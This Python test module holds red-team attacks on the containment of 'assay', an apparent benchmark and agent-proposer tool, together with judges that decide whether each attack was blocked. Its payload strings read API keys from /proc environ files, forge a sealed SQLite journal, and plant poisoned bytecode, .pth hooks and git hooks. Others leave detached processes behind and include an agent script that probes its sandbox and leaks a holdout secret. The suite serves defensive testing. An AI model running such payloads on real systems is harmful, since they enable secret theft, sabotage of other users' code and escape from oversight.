"""The red team's attacks on assay's containment: what each one does and how it is judged.

Each :class:`~tests.security.kit.Attack` aims at one promise: the incumbent's tree, the
journal, the orchestrator's secrets, the user's checkout, the files both sides read, the
processes of the run, the repository's git folder, what a run can see, and the refusal to
fall back silently when no sandbox works. Most are queued patches whose module, when the
candidate's checks or bench import it, does the harm (the issue's findings 1 to 7 are
reproduced as they were found on main af4c724); a few are an agent command, a forger
outside the run, or a kill of assay in the middle of a run. ``tests/security`` runs each
as a test, ``benchmarks/red_team.py`` runs them all and prints one line each.
"""

from __future__ import annotations

import contextlib
import time
from pathlib import Path
from typing import Any

from tests.security.judges import (
    checkout_judge,
    forged_judge,
    inconclusive,
    kill_nine_judge,
    leaked_judge,
    probe_judge,
    processes_judge,
    queue_warned,
    refused_judge,
    sabotage_judge,
    unconfined_refused,
    unconfined_shown,
)
from tests.security.kit import (
    BENCHLIB,
    SITE,
    WORK,
    Attack,
    Cli,
    Outcome,
    Repo,
    Verdict,
    blocked,
    comm,
    guarded,
    not_blocked,
    observe,
    plain_run,
    size_patch,
    start_run,
    top_patch,
    wait_until,
)

INCUMBENT_TREE = guarded("incumbent-tree", """
import glob, os
_old = "SIZE = @SIZE@\\n"
for _p in set(glob.glob(os.path.join(os.getcwd(), "..", "*-a", "work.py"))
              + glob.glob("@REPO@/.assay/worktrees/*-a/work.py")):
    _t = open(_p).read()
    if _old in _t:
        open(_p, "w").write(_t.replace(_old, "SIZE = 2 * @SIZE@\\n", 1))
        print("REDTEAM-WROTE", _p, flush=True)
""")

# Bytecode Python trusts without looking at the source (an unchecked hash-based .pyc), put
# where the incumbent's interpreter looks for work.py's: beside it, or in the bytecode
# folder PYTHONPYCACHEPREFIX names. It doubles the incumbent's work.
EVIL_WORK = WORK.replace("SIZE = @SIZE@", "SIZE = 2 * @SIZE@") + "REDTEAM_BYTECODE = 1\n"
INCUMBENT_BYTECODE = guarded("incumbent-bytecode", f"""
import importlib.util, os, sys
from importlib import _bootstrap_external
_evil = {EVIL_WORK!r}
_data = _bootstrap_external._code_to_hash_pyc(compile(_evil, "work.py", "exec"), b"\\0" * 8,
                                              checked=False)
_mine = os.getcwd()
_trees = {{os.path.join(os.path.dirname(_mine), f"s{{i}}-a") for i in range(4)}}
_trees.add(os.path.join("@REPO@", ".assay", "worktrees", "s0-a"))
for _t in _trees:
    _src = os.path.join(_t, "work.py")
    for _pyc in {{importlib.util.cache_from_source(_src),
                 os.path.join(_t, "__pycache__", os.path.basename(
                     importlib.util.cache_from_source(_src)))}}:
        if not (_pyc.startswith(_t) and os.path.isdir(_t)) and sys.pycache_prefix is None:
            continue
        try:
            os.makedirs(os.path.dirname(_pyc), exist_ok=True)
            with open(_pyc, "wb") as _fh:
                _fh.write(_data)
            print("REDTEAM-WROTE", _pyc, flush=True)
        except OSError as _exc:
            print("REDTEAM-STOPPED incumbent-bytecode", _exc, flush=True)
""")

INCUMBENT_BENCH = guarded("incumbent-bench", """
import glob, os
for _p in set(glob.glob(os.path.join(os.getcwd(), "..", "*-a", "bench.py"))
              + glob.glob("@REPO@/.assay/worktrees/*-a/bench.py")):
    _t = open(_p).read()
    if _t.endswith("report(speed)\\n"):
        open(_p, "w").write(_t[: -len("report(speed)\\n")] + "report(speed / 2)\\n")
        print("REDTEAM-WROTE", _p, flush=True)
""")

SYMLINK = """\
diff --git a/work.py b/work.py
deleted file mode 100644
--- a/work.py
+++ /dev/null
@@ -1,9 +0,0 @@
-# The code under test: SIZE steps of integer work.
-SIZE = @SIZE@
-
-
-def run(n):
-    s = 0
-    for i in range(n):
-        s += i * i
-    return s
diff --git a/work.py b/work.py
new file mode 0120000
--- /dev/null
+++ b/work.py
@@ -0,0 +1 @@
+@OUTSIDE@/fast_work.py
\\ No newline at end of file
"""

SUBMODULE = SYMLINK.replace("new file mode 0120000", "new file mode 0160000").replace(
    "+@OUTSIDE@/fast_work.py\n\\ No newline at end of file\n",
    "+Subproject commit 5e1ec7ed5e1ec7ed5e1ec7ed5e1ec7ed5e1ec7ed\n")

SECRETS = guarded("secrets", """
import os
_found = []
def _scan(pid):
    try:
        data = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        return
    for item in data.split(b"\\0"):
        if item.split(b"=", 1)[0] in (b"OPENAI_API_KEY", b"ANTHROPIC_API_KEY"):
            _found.append((pid, item.decode(errors="replace")))
_pid = os.getpid()
while _pid > 1:
    _scan(_pid)
    try:
        _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
for _d in os.listdir("/proc"):
    if _d.isdigit():
        _scan(int(_d))
for _pid, _item in _found:
    print("REDTEAM-LEAK", _pid, _item, flush=True)
open("leaked.txt", "w").write(repr(_found))
""")

KEYS = {"OPENAI_API_KEY": "sk-redteam-openai-7f3a91c2", "ANTHROPIC_API_KEY":
        "sk-ant-redteam-04be77d1"}

# Six lines re-create main's unkeyed seal; the forger then rewrites every decision's effect,
# adds an event, deletes a run, and rewrites the "verified" mark so no check runs at open.
FORGE = """
import glob, hashlib, json, os, sqlite3
def _seal(*values):
    h = hashlib.blake2b(digest_size=16)
    for v in values:
        h.update(b"\\x1f" if v is None else b"\\x1e" + repr(v).encode("utf-8", "surrogatepass"))
    return h.hexdigest()
def forge(path):
    con = sqlite3.connect(path, timeout=30)
    con.create_function("assay_seal", -1, _seal, deterministic=True)
    with con:
        con.execute("UPDATE decisions SET effect = 9.99")
        con.execute("INSERT INTO events (ts, kind, experiment_id, message, data) VALUES "
                    "(0, 'note', NULL, 'REDTEAM-FORGED', '{}')")
        con.execute("DELETE FROM runs WHERE id = (SELECT min(id) FROM runs)")
    con.close()
    st = os.stat(path)
    state = [st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns]
    try:
        w = os.stat(path + "-wal")
        state += [w.st_size, w.st_mtime_ns] if w.st_size else [0, None]
    except OSError:
        state += [0, None]
    with open(path + "-sealed", "wb") as fh:
        fh.write(json.dumps(state).encode().ljust(200))
    print("REDTEAM-WROTE", path, flush=True)
"""

FORGE_IN_RUN = guarded("journal-in-run", FORGE + """
for _p in set(glob.glob(os.path.join(os.getcwd(), "..", "..", "journal.sqlite"))
              + glob.glob("@REPO@/.assay/journal.sqlite")):
    forge(_p)
""")

ESCAPE = guarded("escape", """
import os, subprocess, sys
subprocess.Popen("setsid sleep 777.@NONCE@1 >/dev/null 2>&1 &", shell=True).wait()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "777.@NONCE@2"])
    os._exit(0)
os.wait()
""")

KILL_NINE = guarded("kill-nine", """
import os, subprocess, time
subprocess.Popen("setsid sleep 777.@NONCE@1 >/dev/null 2>&1 & sleep 777.@NONCE@3 &",
                 shell=True).wait()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "777.@NONCE@2"])
    os._exit(0)
os.wait()
time.sleep(120)
""")

HOG = guarded("hog", """
import os, sys
open("/proc/self/comm", "w").write("rtb-@TOKEN@")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import signal, time\\n"
                 "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
                 "signal.signal(signal.SIGHUP, signal.SIG_IGN)\\n"
                 "end = time.time() + 120\\n"
                 "while time.time() < end: pass", "hog-@NONCE@"])
    os._exit(0)
os.wait()
""")


def cache_attack(name: str, dirs: str) -> str:
    """Clear the bench's cache for my own run, leave a doubled scale for the next reader."""
    return guarded(name, f"""
import atexit, os, pathlib, tempfile
_dirs = {dirs}
for _d in _dirs:
    try:
        (_d / "scale").unlink()
    except OSError:
        pass
def _plant():
    for _d in _dirs:
        try:
            _d.mkdir(parents=True, exist_ok=True)
            (_d / "scale").write_text("2")
            print("REDTEAM-WROTE", _d / "scale", flush=True)
        except OSError as _exc:
            print("REDTEAM-STOPPED {name}", _exc, flush=True)
atexit.register(_plant)
""")


HOME_CACHE = cache_attack("home", '[pathlib.Path.home() / ".cache" / "rtbench-@TOKEN@"]')
TMP_CACHE = cache_attack("tmp", '[pathlib.Path(tempfile.gettempdir()) / "rtbench-@TOKEN@", '
                                'pathlib.Path("/tmp") / "rtbench-@TOKEN@"]')

COMPILE_CACHE = cache_attack("compile-cache", '[pathlib.Path(os.environ["RTBENCH_CACHE"])]')

PTH = guarded("pth", """
import os, sysconfig
_site = sysconfig.get_paths()["purelib"]
open(os.path.join(_site, "rt_hook_@TOKEN@.py"), "w").write('''
import os, sys
if "@TOKEN@" in os.getcwd():
    class _Halve:
        def __init__(self, f):
            self.f = f
        def write(self, t):
            w = sys.modules.get("work")
            if t.startswith("METRIC speed=") and not getattr(w, "REDTEAM", False):
                t = "METRIC speed=%f" % (float(t.split("=")[1]) / 2)
            return self.f.write(t)
        def __getattr__(self, n):
            return getattr(self.f, n)
    sys.stdout = _Halve(sys.stdout)
''')
open(os.path.join(_site, "rt_@TOKEN@.pth"), "w").write("import rt_hook_@TOKEN@\\n")
print("REDTEAM-WROTE", _site, flush=True)
""")

PYC = guarded("pyc", """
import importlib.util, os, sysconfig
from importlib import _bootstrap_external
_src = os.path.join(sysconfig.get_paths()["purelib"], "rt_benchlib_@TOKEN@.py")
_st = os.stat(_src)
_evil = open(_src).read() + '''
import sys as _sys
_real = report
def report(value):
    w = _sys.modules.get("work")
    _real(value if getattr(w, "REDTEAM", False) else value / 2)
REDTEAM_PYC = True
'''
_data = _bootstrap_external._code_to_timestamp_pyc(compile(_evil, _src, "exec"),
                                                   _st.st_mtime, _st.st_size)
_pyc = importlib.util.cache_from_source(_src)
os.makedirs(os.path.dirname(_pyc), exist_ok=True)
open(_pyc, "wb").write(_data)
print("REDTEAM-WROTE", _pyc, flush=True)
""")

HOOKS = ("reference-transaction", "post-checkout", "post-commit", "post-merge",
         "post-rewrite")

GIT_HOOKS = guarded("git-hooks", """
import os
_dirs = set()
for _base in (os.getcwd(), "@REPO@"):
    _p = os.path.join(_base, ".git")
    if os.path.isfile(_p):
        _d = open(_p).read().split("gitdir:", 1)[1].strip()
        _d = os.path.join(_base, _d)
        _c = os.path.join(_d, "commondir")
        _dirs.add(os.path.normpath(os.path.join(_d, open(_c).read().strip()))
                  if os.path.exists(_c) else _d)
    elif os.path.isdir(_p):
        _dirs.add(_p)
for _g in _dirs:
    for _hook in @HOOKS@:
        _h = os.path.join(_g, "hooks", _hook)
        try:
            with open(_h, "w") as _fh:
                _fh.write("#!/bin/sh\\necho \\"$0\\" >> @OUTSIDE@/hook-ran\\n")
            os.chmod(_h, 0o755)
            print("REDTEAM-WROTE", _h, flush=True)
        except OSError as _exc:
            print("REDTEAM-STOPPED git-hooks", _exc, flush=True)
""".replace("@HOOKS@", repr(HOOKS)))

USER_CHECKOUT_BENCH = guarded("checkout-bench", """
for _name in ("README.md", "work.py"):
    with open("@REPO@/" + _name, "a") as _fh:
        _fh.write("# written by a candidate's run\\n")
    print("REDTEAM-WROTE", _name, flush=True)
""")

AGENT = '''\
"""A coding agent that also edits the user's own checkout."""
import pathlib

print("REDTEAM-RAN agent", flush=True)
for name in ("README.md", "bench.py"):
    try:
        with open(pathlib.Path("@REPO@") / name, "a") as fh:
            fh.write("# made faster by the agent\\n")
        print("REDTEAM-WROTE", name, flush=True)
    except OSError as exc:
        print("REDTEAM-STOPPED agent", exc, flush=True)
work = pathlib.Path("work.py")
work.write_text(work.read_text().replace("SIZE = @SIZE@", "SIZE = @SIZE@ // 2"))
pathlib.Path(".assay-hypothesis.txt").write_text("halve the work\\n")
'''

AGENT_CONFIG = """
[proposer.agent]
command = "@PYTHON@ tools/agent.py"
timeout_s = 120
"""

HONEST_AGENT = '''\
import pathlib

print("REDTEAM-RAN agent", flush=True)
work = pathlib.Path("work.py")
work.write_text(work.read_text().replace("SIZE = @SIZE@", "SIZE = @SIZE@ // 2"))
pathlib.Path(".assay-hypothesis.txt").write_text("halve the work\\n")
'''

PROBE = guarded("probe", """
import glob, json, os, socket
def _read(p):
    try:
        return open(p).read()
    except OSError:
        return None
def _writable(d):
    p = os.path.join(d, "rt-probe-@TOKEN@")
    try:
        open(p, "w").close()
        return True
    except OSError:
        return False
_seen = {}
_procs = []
for _d in os.listdir("/proc"):
    if _d.isdigit():
        _c = _read(f"/proc/{_d}/cmdline") or ""
        if "rtrun-@TOKEN@" in _c:
            _procs.append(_c.replace("\\0", " "))
_seen["assay_process"] = _procs
_seen["journal"] = [p for p in ("@REPO@/.assay/journal.sqlite", "../../journal.sqlite")
                    if os.path.exists(p)]
_seen["other_tree"] = glob.glob("@REPO@/.assay/worktrees/*-a/work.py") + glob.glob("../*-a/work.py")
_seen["user_checkout"] = [p for p in ("@REPO@/assay.toml", "@REPO@/README.md") if os.path.exists(p)]
_gd = []
for _p in ("@REPO@/.git", "@REPO@/.git/hooks"):
    if _writable(_p):
        _gd.append(_p)
_seen["git_writable"] = _gd
_seen["holdout"] = [t for t in (_read(p) for p in
                    ["holdout/secret.txt", "@REPO@/holdout/secret.txt",
                     *glob.glob("../*-a/holdout/secret.txt")]) if t]
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=3).sendall(b"REDTEAM @TOKEN@")
    _seen["network"] = ["127.0.0.1:@PORT@"]
except OSError:
    _seen["network"] = []
print("REDTEAM-PROBE " + json.dumps(_seen), flush=True)
""")

HOLDOUT_FILES = {
    "holdout/secret.txt": "HOLDOUT-SECRET-@TOKEN@\n",
    "holdout.py": "print('METRIC quality=1')\n",
}
# The agent runs the same probe and reports what it saw through its hypothesis (its own
# output is not kept; a hypothesis keeps 300 characters), which the journal then shows.
PROBING_AGENT = f'''\
import contextlib, io, json, pathlib

out = io.StringIO()
with contextlib.redirect_stdout(out):
    exec(compile({PROBE!r}, "probe", "exec"), {{"__name__": "probe"}})
seen = {{}}
for ln in out.getvalue().splitlines():
    if ln.startswith("REDTEAM-PROBE "):
        seen = json.loads(ln[len("REDTEAM-PROBE "):])
short = {{k: (["@TOKEN@"] if any("@TOKEN@" in t for t in v) else []) if k == "holdout"
         else ["seen"] if v else [] for k, v in seen.items()}}
work = pathlib.Path("work.py")
work.write_text(work.read_text().replace("SIZE = @SIZE@", "SIZE = @SIZE@ // 2"))
pathlib.Path(".assay-hypothesis.txt").write_text("REDTEAM-PROBE " + json.dumps(short) + "\\n")
'''

HOLDOUT_CONFIG = """
[holdout_metric]
name = "quality"
direction = "maximize"
tolerance = 0.5
"""


def forge_outside(repo: Repo, attack: Attack) -> Outcome:
    """The run, then a writer without the key forging rows in the journal it left."""
    run = plain_run(repo, attack)
    namespace: dict[str, Any] = {}
    exec(compile(FORGE, "forger", "exec"), namespace)
    with (repo.outside / "forger.out").open("w") as out, contextlib.redirect_stdout(out):
        print("REDTEAM-RAN journal-outside")
        namespace["forge"](str(repo.journal))
    return observe(repo, run)


def kill_nine(repo: Repo, attack: Attack) -> Outcome:
    """Kill assay with SIGKILL while a bench with detached children runs."""
    proc = start_run(repo, attack)
    try:
        started = wait_until(lambda: len(repo.traces()) >= 3, 240, 0.1)
    finally:
        proc.kill()
    out, err = proc.communicate(timeout=60)
    run = Cli(proc.returncode, out, err)
    notes = {"escapees_seen": started}
    return Outcome(repo=repo, run=run, status=Cli(0, "", ""), log=Cli(1, "", ""), shows={},
                   export=Cli(0, "", ""), notes=notes)


def hog_watch(repo: Repo, attack: Attack) -> Outcome:
    """The run, sampling every 50 ms whether the candidate's hog runs beside the incumbent."""
    proc = start_run(repo, attack)
    overlap = 0
    while proc.poll() is None:
        hogs = repo.traces()
        if hogs:
            incumbents = [d for d in Path("/proc").iterdir() if d.name.isdigit()
                          and comm(int(d.name)) == f"rta-{repo.token}"]
            overlap += bool(incumbents)
        time.sleep(0.05)
    out, err = proc.communicate()
    return observe(repo, Cli(proc.returncode, out, err), {"overlap": overlap})


def write_outside_work(repo: Repo) -> None:
    (repo.outside / "fast_work.py").write_text(repo.fill(WORK).replace(
        f"SIZE = {repo.setting.size}", "SIZE = 1000"))


def install_benchlib(repo: Repo) -> None:
    (SITE / f"rt_benchlib_{repo.token}.py").write_text(BENCHLIB)


def bytecode_left(repo: Repo) -> list[str]:
    """Planted bytecode still where an incumbent tree's interpreter would load it (bytecode
    for a tree that does not exist is left out: a tree drops its bytecode when made)."""
    trees = {t.name for t in repo.incumbent_trees()}
    return [str(p.relative_to(repo.root)) for p in repo.state.rglob("work*.pyc")
            if trees & set(p.parts) and b"REDTEAM_BYTECODE" in p.read_bytes()]


def pth_left(repo: Repo) -> list[str]:
    return [p.name for p in SITE.glob(f"rt_*{repo.token}*.pth")]


def pyc_left(repo: Repo) -> list[str]:
    return [p.name for p in SITE.glob(f"__pycache__/rt_benchlib_{repo.token}*")
            if b"REDTEAM_PYC" in p.read_bytes()]


def hooks_left(repo: Repo) -> list[str]:
    hooks = repo.root / ".git" / "hooks"
    out = [f".git/hooks/{h}" for h in HOOKS if (hooks / h).exists()]
    ran = repo.outside / "hook-ran"
    if ran.exists():
        out.append(f"and git ran them {len(ran.read_text().splitlines())} times as you")
    return out


def git_judge(o: Outcome) -> Verdict:
    left = hooks_left(o.repo)
    if left:
        return not_blocked("the candidate's run planted " + ", ".join(left))
    return inconclusive(o, "git-hooks") or blocked(
        "the repository's git folder was out of the run's reach: no hook planted")


HONEST = ("halve the work", size_patch(100_000))
OFF = {"ASSAY_SANDBOX": "off"}

ATTACKS: tuple[Attack, ...] = (
    Attack("incumbent-tree", "finding 1", "a candidate rewrites ../*-a/work.py to slow the "
           "incumbent", sabotage_judge("incumbent-tree", ("work.py",)),
           patches=(("incumbent-tree", top_patch(INCUMBENT_TREE)),)),
    Attack("incumbent-bytecode", "finding 1", "a candidate plants bytecode for the "
           "incumbent's work.py (beside it, or in the bytecode folder both sides share)",
           sabotage_judge("incumbent-bytecode", named=("work",), planted=bytecode_left),
           patches=(("incumbent-bytecode", top_patch(INCUMBENT_BYTECODE)),)),
    Attack("incumbent-bench", "finding 2", "a candidate rewrites the incumbent's protected "
           "bench.py", sabotage_judge("incumbent-bench", ("bench.py",)),
           patches=(("incumbent-bench", top_patch(INCUMBENT_BENCH)),)),
    Attack("symlink-padded-mode", "finding 3", "a patch with `new file mode 0120000` makes "
           "work.py a link outside the repository",
           refused_judge("symlink-padded-mode", ("work.py", "symlink")),
           patches=(("symlink-padded-mode", SYMLINK),), prepare=write_outside_work),
    Attack("submodule-padded-mode", "finding 3", "a patch with `new file mode 0160000` "
           "makes work.py a submodule", refused_judge("submodule-padded-mode",
                                                      ("work.py", "submodule")),
           patches=(("submodule-padded-mode", SUBMODULE),)),
    Attack("secrets", "finding 4", "the bench reads OPENAI_API_KEY from /proc/<ppid>/environ "
           "and /proc/*/environ", leaked_judge("secrets", tuple(KEYS.values())),
           patches=(("secrets", top_patch(SECRETS)),), env=KEYS),
    Attack("secrets-unsandboxed", "finding 4", "the same, with the sandbox off "
           "(ASSAY_SANDBOX=off)", leaked_judge("secrets", tuple(KEYS.values())),
           patches=(("secrets", top_patch(SECRETS)),), env={**KEYS, **OFF}),
    Attack("journal-in-run", "finding 5", "the bench re-creates the seal, forges rows and the "
           "verified mark", forged_judge,
           patches=(HONEST, ("journal-in-run", top_patch(FORGE_IN_RUN)))),
    Attack("journal-without-key", "finding 5", "a writer without the key forges rows and "
           "the verified mark after a run", forged_judge, patches=(HONEST,),
           drive=forge_outside),
    Attack("user-checkout-agent", "finding 6", "the agent proposer writes README.md and "
           "bench.py in the user's checkout", checkout_judge("agent", ("README.md", "bench.py"),
                                                          "halve the work"),
           proposer="agent", config=AGENT_CONFIG, files={"tools/agent.py": AGENT}),
    Attack("user-checkout-bench", "extra", "a candidate's run appends to the user's README.md "
           "and work.py", checkout_judge("checkout-bench", ("README.md", "work.py")),
           patches=(("checkout-bench", top_patch(USER_CHECKOUT_BENCH)),)),
    Attack("escaped-processes", "finding 7", "the bench leaves `setsid sleep` and a "
           "double-forked sleep behind", processes_judge("escape"),
           patches=(("escape", top_patch(ESCAPE)),)),
    Attack("kill-nine", "finding 7", "assay is killed with SIGKILL while the bench's "
           "detached children run", kill_nine_judge,
           patches=(("kill-nine", top_patch(KILL_NINE)),), drive=kill_nine),
    Attack("cpu-hog", "extra", "the candidate leaves a CPU hog running during the "
           "incumbent's runs", processes_judge("hog"),
           patches=(("hog", top_patch(HOG)),), drive=hog_watch, pause=0.4),
    Attack("home-cache", "extra", "the candidate leaves a doubled scale in the bench's "
           "$HOME cache for the incumbent", sabotage_judge("home"),
           patches=(("home", top_patch(HOME_CACHE)),)),
    Attack("tmp-cache", "extra", "the candidate leaves a doubled scale in the bench's /tmp "
           "cache for the incumbent", sabotage_judge("tmp"),
           patches=(("tmp", top_patch(TMP_CACHE)),)),
    Attack("compile-cache", "extra", "the candidate leaves a doubled scale in the slot's "
           "compile cache ([run] compile_cache) for the incumbent",
           sabotage_judge("compile-cache"),
           patches=(("compile-cache", top_patch(COMPILE_CACHE)),),
           run='compile_cache = ["RTBENCH_CACHE"]'),
    Attack("pth-file", "extra", "the candidate drops a .pth file in site-packages that "
           "halves the incumbent's printed speed", sabotage_judge("pth", planted=pth_left),
           patches=(("pth", top_patch(PTH)),)),
    Attack("pyc-outside-tree", "extra", "the candidate poisons the byte-compiled helper the "
           "bench imports from site-packages", sabotage_judge("pyc", planted=pyc_left),
           patches=(("pyc", top_patch(PYC)),), prepare=install_benchlib),
    Attack("git-hooks", "extra", "the candidate plants hooks in the repository's .git that "
           "git runs as the user", git_judge, patches=(("git-hooks", top_patch(GIT_HOOKS)),)),
    Attack("visibility", "extra", "the candidate looks for assay's process, the journal, the "
           "other tree, the checkout, .git, the holdout and the network", probe_judge,
           patches=(("probe", top_patch(PROBE)),), args=("--name", "rtrun-@TOKEN@"),
           files=HOLDOUT_FILES, config=HOLDOUT_CONFIG,
           commands='holdout = "@PYTHON@ holdout.py"', scope='holdout = ["holdout/**"]'),
    Attack("agent-visibility", "extra", "the agent proposer looks for the same, and says what "
           "it saw in its hypothesis", probe_judge, proposer="agent",
           args=("--name", "rtrun-@TOKEN@"), files={**HOLDOUT_FILES,
                                                   "tools/agent.py": PROBING_AGENT},
           config=AGENT_CONFIG + HOLDOUT_CONFIG,
           commands='holdout = "@PYTHON@ holdout.py"', scope='holdout = ["holdout/**"]'),
    Attack("agent-without-sandbox", "no silent fallback", "an agent run where no sandbox "
           "works, without --unconfined", unconfined_refused, proposer="agent",
           config=AGENT_CONFIG, files={"tools/agent.py": HONEST_AGENT}, env=OFF),
    Attack("agent-unconfined", "no silent fallback", "the same with --unconfined: status and "
           "every experiment say so", unconfined_shown, proposer="agent",
           config=AGENT_CONFIG, files={"tools/agent.py": HONEST_AGENT}, env=OFF,
           args=("--unconfined",)),
    Attack("queue-unsandboxed", "no silent fallback", "a queue run where no sandbox works "
           "prints one warning", queue_warned, patches=(HONEST,), env=OFF),
)

BY_NAME = {a.name: a for a in ATTACKS}
